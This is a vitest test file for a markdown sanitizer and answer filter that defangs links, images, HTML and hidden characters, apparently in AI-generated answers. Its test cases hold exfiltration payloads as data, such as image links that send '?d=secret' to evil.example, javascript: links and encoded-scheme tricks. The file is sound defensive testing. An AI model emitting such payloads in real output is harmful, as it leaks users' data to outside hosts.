import { describe, expect, it } from 'vitest'
import { createAnswerFilter } from '../../supabase/functions/_shared/answer-filter.ts'
import { addressesIn, createMarkdownSanitizer, sanitizeMarkdown } from '../../supabase/functions/_shared/sanitize.ts'
import { babble, createRandom, cut } from './support/random.ts'

const NONE = new Set<string>()
const KNOWN = addressesIn(['See https://docs.example/guide (or www.harbor.example).'])

describe('sanitizeMarkdown', () => {
  it.each([
    ['an image', '![x](https://evil.example/?d=secret)', '! [x] (hxxps://evil.example/?d=secret)'],
    ['an image by reference', '![x][1]\n\n[1]: https://evil.example', '! [x][1]\n\n[1] : hxxps://evil.example'],
    ['an inline link', '[here](https://evil.example)', '[here] (hxxps://evil.example)'],
    ['a javascript link', '[x](javascript:alert(1))', '[x] (javascript:alert(1))'],
    ['a data link', '[x](data:text/html,hi)', '[x] (data:text/html,hi)'],
    ['an encoded scheme', '[x](&#106;avascript:alert(1))', '[x] (&amp;#106;avascript:alert(1))'],
    ['a relative link', '[x](/logout)', '[x] (/logout)'],
    ['a link in angle brackets', '[x](<https://evil.example>)', '[x] (< hxxps://evil.example>)'],
    ['an autolink', '<https://evil.example>', '< hxxps://evil.example>'],
    ['an HTML image', '<img src="https://evil.example">', '< img src="hxxps://evil.example">'],
    ['an HTML comment', '<!-- x --> </b>', '< !-- x --> < /b>'],
    ['a bare address', 'go to https://evil.example/a.', 'go to hxxps://evil.example/a.'],
    ['a bare www address', 'go to www.evil.example', 'go to www[.]evil.example'],
    ['upper case', 'HTTPS://EVIL.example', 'HxxPS://EVIL.example'],
    ['an address with escaped punctuation', 'https\\://e.example', 'hxxps\\://e.example'],
    ['an address with every mark escaped', 'ftp\\:\\/\\/e.example', 'fxp\\:\\/\\/e.example'],
    ['a www address with an escaped dot', 'www\\.e.example', 'www[.]e.example'],
    ['an encoded letter', '&#104;ttps://e.example', '&amp;#104;ttps://e.example'],
    ['an encoded letter in hexadecimal', '&#x68;ttps://e.example', '&amp;#x68;ttps://e.example'],
    ['an encoded colon', 'https&colon;//e.example', 'https&amp;colon;//e.example'],
    ['a definition in a list', '- [x]: https://e.example', '- [x] : hxxps://e.example'],
    ['a definition of a number in a quote', '> - [1]: //e.example', '> - [1] : //e.example'],
    ['a definition with an escaped bracket', '[a\nb \\[ c]: //e.example', '[a\nb \\[ c] : //e.example'],
    ['a definition with an escaped bracket before a number', '[a\nbc \\[1]: //e.example', '[a\nbc \\[1] : //e.example'],
    ['an escaped exclamation mark', '\\![x](https://e.example)', '\\! [x] (hxxps://e.example)'],
    ['a mark behind an exclamation', 'Yes![3]', 'Yes! [3]'],
    ['two backslashes', '\\\\![x](u)', '\\\\! [x] (u)'],
    ['hidden characters', 'a\u200bb\u{e0041}c\u202ed\ufeff', 'abcd'],
    ['tag characters inside an address', 'ht\u{e0041}tps://evil.example', 'hxxps://evil.example'],
    ['control characters', 'a\u0000b\u001bc\u0085d', 'abcd'],
    ['half a surrogate pair', 'a\ud800b\udc00', 'ab'],
  ])('makes %s harmless', (_name, text, expected) => {
    expect(sanitizeMarkdown(text, NONE)).toBe(expected)
  })

  it.each([
    'Plain text: 3 < 4, a > b, wow! (really)',
    'A mark [1], another! [2]',
    'According to [1]: the quay closes.',
    '# Heading\n\n- item\n1. item\n\n| a | b |\n|---|---|\n| `x` | **y** |',
    'naïve 漢字 عربى 👩‍👩‍👧 e\u0301',
    'httpd and www and a www.x',
    '`a[i] (x)`, `a[i]` and `if (a < b)`\n\n```ts\nconst a: Map = f(&x) && !b[0] // C:\\new\n```\n',
    'AT&T, R & D; 1 &lt; 2 &amp;&nbsp;3 & a&b',
  ])('leaves %j alone', (text) => {
    expect(sanitizeMarkdown(text, new Set(['www.x']))).toBe(text)
  })

  it('keeps links whose address the context holds, and only exactly those', () => {
    const keep = (text: string) => expect(sanitizeMarkdown(text, KNOWN)).toBe(text)
    keep('[guide](https://docs.example/guide)')
    keep('See https://docs.example/guide.')
    keep('(https://docs.example/guide) and www.harbor.example')
    const refuse = (text: string) => expect(sanitizeMarkdown(text, KNOWN)).toMatch(/hxxps|www\[\.\]|\] \(/)
    refuse('https://docs.example/guide?d=secret')
    refuse('https://docs.example/guide(secret)')
    refuse('https://docs.example/guide)secret')
    refuse('https://docs.example/guide/secret')
    refuse('[guide](https://docs.example/guide "t")')
    refuse('[guide](https://docs.example/guide#secret)')
    expect(sanitizeMarkdown('![x](https://docs.example/guide)', KNOWN)).toBe('! [x](https://docs.example/guide)')
  })

  it.each([
    ['after an address', 'https://docs.example/guide'],
    ['after an address in brackets', '(https://docs.example/guide).'],
    ['after an emphasised address', '**https://docs.example/guide**.'],
  ])('keeps ordinary punctuation %s', (_name, text) => {
    expect(sanitizeMarkdown(text, KNOWN)).toBe(text)
  })

  it.each([
    ['a link', '[c](https://docs.example/guide||[[{{)'],
    ['a link, one mark', '[c](https://docs.example/guide.)'],
    ['a bare address', 'https://docs.example/guide||[[{{'],
    ['a bare address, dots', 'https://docs.example/guide...'],
    ['a bare address behind a wide space', 'https://docs.example/guide\u00a0secret'],
  ])('lets no data travel as punctuation at the end of %s', (_name, text) => {
    expect(sanitizeMarkdown(text, KNOWN)).not.toMatch(/\]\(|https:/)
  })

  it.each([
    ['a fence inside a math block', '$$\n```\n$$\n\n'],
    ['a fence inside LaTeX brackets', '\\[\n```\n\\]\n\n'],
    ['a fence inside a container', ':::\n```\n:::\n\n'],
    ['an open fence', '```\n'],
    ['a closed fence', '```\ncode\n```\n'],
    ['a diagram', '```mermaid\ngraph TD; A["'],
    ['inline code', 'a ` b\nc ` '],
    ['inline math', '$\\$'],
    ['an indented fence, which a list may end', '- a\n  ```\n'],
    ['a fence closed by a lone carriage return', '```\ncode\r```\r'],
  ])('is as strict behind %s', (_name, before) => {
    const hostile =
      '![x](https://evil.example/?q=SECRET) <img src=//evil.example> [x](//evil.example)\n[x]: //evil.example'
    const harmless =
      '! [x] (hxxps://evil.example/?q=SECRET) < img src=//evil.example> [x] (//evil.example)\n[x] : //evil.example'
    expect(sanitizeMarkdown(before + hostile, NONE)).toBe(before.replaceAll('\r', '\n') + harmless)
  })

  it('leaves code readable', () => {
    expect(sanitizeMarkdown('```\nif (a<b) a[i](x)\nlet m: Map<K, V>\n```', NONE)).toBe(
      '```\nif (a< b) a[i] (x)\nlet m: Map< K, V>\n```',
    )
  })

  it('gives the same result however the text is cut', () => {
    const random = createRandom(3)
    const vocabulary = [
      '!',
      '[',
      ']',
      '(',
      ')',
      ':',
      '<',
      '>',
      '\\',
      '`',
      '```',
      '\n',
      '\r\n',
      '\r',
      ' ',
      'http',
      's://',
      'www.',
      'x',
      '1',
      '🦆',
      '\u200b',
      'https://docs.example/guide',
      '~~~',
      '-',
      '&lt;',
      '&#1',
      '&colon;',
      '&',
      'ab [',
      ']:',
      '.',
    ]
    for (let round = 0; round < 5000; round++) {
      const text = babble(vocabulary, 1 + Math.floor(random() * 25), random)
      const sanitizer = createMarkdownSanitizer(KNOWN)
      const streamed =
        cut(text, random)
          .map((piece) => sanitizer.push(piece))
          .join('') + sanitizer.end()
      expect(streamed).toBe(sanitizeMarkdown(text, KNOWN))
    }
  })

  it.each([
    ['addresses that follow each other', 'https://'.repeat(1500), 'hxxps://'.repeat(1500)],
    ['a long address', `https://${'x'.repeat(5000)}`, `hxxps://${'x'.repeat(5000)}`],
    ['a long target', `[x](${'x'.repeat(5000)})`, `[x] (${'x'.repeat(5000)})`],
    ['long targets', `](${'x'.repeat(2500)}`.repeat(3), `] (${'x'.repeat(2500)}`.repeat(3)],
  ])('looks at each character a few times only, however it is cut: %s', (_name, text, expected) => {
    const { test } = RegExp.prototype
    let looks = 0
    try {
      RegExp.prototype.test = function (this: RegExp, given: string) {
        looks++
        return test.call(this, given)
      }
      for (const size of [1, 7, text.length]) {
        const sanitizer = createMarkdownSanitizer(KNOWN)
        let output = ''
        for (let at = 0; at < text.length; at += size) output += sanitizer.push(text.slice(at, at + size))
        expect(output + sanitizer.end()).toBe(expected)
      }
    } finally {
      RegExp.prototype.test = test
    }
    expect(looks).toBeLessThan(30 * text.length)
  })

  it('never lets an inline image, a link to elsewhere, HTML or a linkable address through', () => {
    const random = createRandom(11)
    const vocabulary = [
      '![',
      '](',
      ']:',
      '[x',
      ')',
      '<',
      'a',
      '\\',
      '`a',
      '\n',
      ' ',
      'https://evil.example',
      'www.',
      '```\n',
      '$$\n',
      ':',
      '//',
      'https',
      '1',
      '\u200b',
      '!',
      '[',
    ]
    for (let round = 0; round < 5000; round++) {
      const safe = sanitizeMarkdown(babble(vocabulary, 20, random), NONE)
      expect(safe).not.toMatch(/!\[|\]\(|<[A-Za-z/!?]/)
      expect(safe).not.toMatch(/https?\\?:\\?\/\\?\/|ftp:\/\/|www\\?\.[^\s<]/i)
    }
  })

  it('stays fast on long hostile texts', () => {
    for (const piece of ['![', '](', ']:', '[1]:', 'http', '`', '[', '\\', 'https://x', '<a', '&a', '&#']) {
      const sanitizer = createMarkdownSanitizer(NONE)
      for (let i = 0; i < 20_000; i++) sanitizer.push(piece)
      expect(sanitizer.end()).toBeTypeOf('string')
    }
  })
})

describe('addressesIn', () => {
  it('stays fast on hostile documents', () => {
    const addresses = addressesIn([
      `https://${'('.repeat(500_000)}x`,
      'https://x'.repeat(100_000),
      'www.'.repeat(200_000),
    ])
    expect(addresses).toBeDefined()
  })
})

describe('createAnswerFilter', () => {
  it('cannot be tricked into joining a link by a removed mark', () => {
    const filter = createAnswerFilter({ keys: new Set([1]), knownTexts: [] })
    const text =
      filter.push('!') +
      filter.push('[9][x') +
      filter.push(']') +
      filter.push('[9](https://evil.example)') +
      filter.end()
    expect(text).not.toContain('](')
    expect(text).not.toContain('https://')
    expect(filter.invalidCount()).toBe(2)
  })

  it('keeps valid marks and counts the others', () => {
    const filter = createAnswerFilter({ keys: new Set([1, 2]), knownTexts: [] })
    expect(filter.push('Six [1] or seven [7].') + filter.end()).toBe('Six [1] or seven.')
    expect(filter.used()).toEqual([1])
    expect(filter.invalidCount()).toBe(1)
  })
})
